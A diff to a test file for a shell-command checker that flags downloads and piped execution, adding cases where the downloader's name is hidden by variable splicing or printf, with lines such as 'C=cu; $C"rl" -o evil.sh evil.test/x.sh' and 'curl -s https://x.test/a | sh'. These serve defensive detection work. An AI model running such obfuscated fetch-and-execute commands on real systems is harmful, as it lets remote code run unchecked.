@@ -584,12 +584,17 @@ describe("a downloader named by an expansion", () => {
     expect(downloadExecution("C=curl; $C -s https://x.test/a | sh", new Set())).toMatch(/interpreter/);
   });
 
-  it.each(['"$EDITOR" notes.md', "$PYTHON script.py --fast", 'for f in *.md; do "$TOOL" "$f"; done'])(
-    "leaves %s alone (no URL or downloader on its line)",
-    (command) => {
-      expect(lineDownloads(command)).toEqual({ targets: [], unplaced: false });
-    },
-  );
+  // The line's text does not say which program it is, nor need it name the URL: gating on a URL or
+  // a downloader's name on the line let these write evil.sh unrecorded.
+  it.each([
+    "C=cu; $C\"rl\" -o evil.sh evil.test/x.sh",
+    "C=$(printf 'cu%s' rl); $C -o evil.sh evil.test/x.sh",
+    "C=c; C+=url; $C -o evil.sh -K cfg",
+    'for f in *.md; do "$TOOL" "$f"; done',
+  ])("asks before %s, whatever its line names", (command) => {
+    expect(lineDownloads(command).unplaced).toBe(true);
+    expect(downloadExecution(command, new Set())).toBeDefined();
+  });
 
   it("reads `[` and a group's braces as the programs they are", () => {
     expect(lineDownloads("[ -f a.json ] || curl -o a.json https://x.test/a")).toEqual({
